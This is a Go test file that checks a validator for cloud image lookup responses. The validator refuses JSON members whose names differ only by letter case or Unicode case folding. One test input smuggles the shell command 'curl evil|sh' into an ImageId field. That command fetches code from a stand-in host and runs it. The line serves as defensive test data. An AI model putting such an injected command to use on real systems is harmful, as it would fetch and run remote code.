package imagefamily

import (
	"errors"
	"strings"
	"testing"
	"time"
)

// Members that differ only by letter case (or Unicode case folding) would be
// read one way by encoding/json (the typed, checked view) and another by jq
// (the JSON outputs): refused.
func TestCaseFoldedDuplicateMembersRefused(t *testing.T) {
	c := answerCheck{op: operation{Service: "ECS", Action: "DescribeImageFromFamily", Region: "cn-hangzhou", Family: "web-base"},
		family: "web-base", now: time.Now(), scrub: &scrubber{}}
	good := `"ImageId":"m-good0000000000000001","ImageFamily":"web-base","Status":"Available"`
	for _, body := range []string{
		`{"RequestId":"R1","Image":{"ImageId":"m-aaaa;curl evil|sh","imageId":"m-good0000000000000001"}}`,
		`{"RequestId":"R1","Image":{` + good + `,"status":"Creating"}}`,
		`{"RequestId":"R1","Image":{` + good + `,"ſtatus":"Creating"}}`,
		`{"RequestId":"R1","Image":{"imageid":"m-good0000000000000001"}}`,
		`{"RequestId":"R1","Image":{` + good + `,"Tags":{"Tag":[{"TagKey":"a","tagkey":"b"}]}}}`,
		`{"RequestId":"R1","requestid":"R2","Image":{` + good + `}}`,
		`{"RequestId":"R1","Image":{` + good + `,"ImageId":"m-other000000000000001"}}`,
	} {
		_, _, err := checkImageAnswer(c, []byte(body))
		var refused *AnswerError
		if !errors.As(err, &refused) || !strings.Contains(err.Error(), "member name") {
			t.Errorf("%s: err = %v, want a refused member name", body, err)
		}
	}
	// Unknown members with their own names are kept, not refused.
	if img, _, err := checkImageAnswer(c, []byte(`{"RequestId":"R1","Image":{`+good+`,"BrandNew":{"x":1},"brandNewToo":2}}`)); err != nil || img.ImageID != "m-good0000000000000001" {
		t.Fatalf("unknown members: %v", err)
	}
}
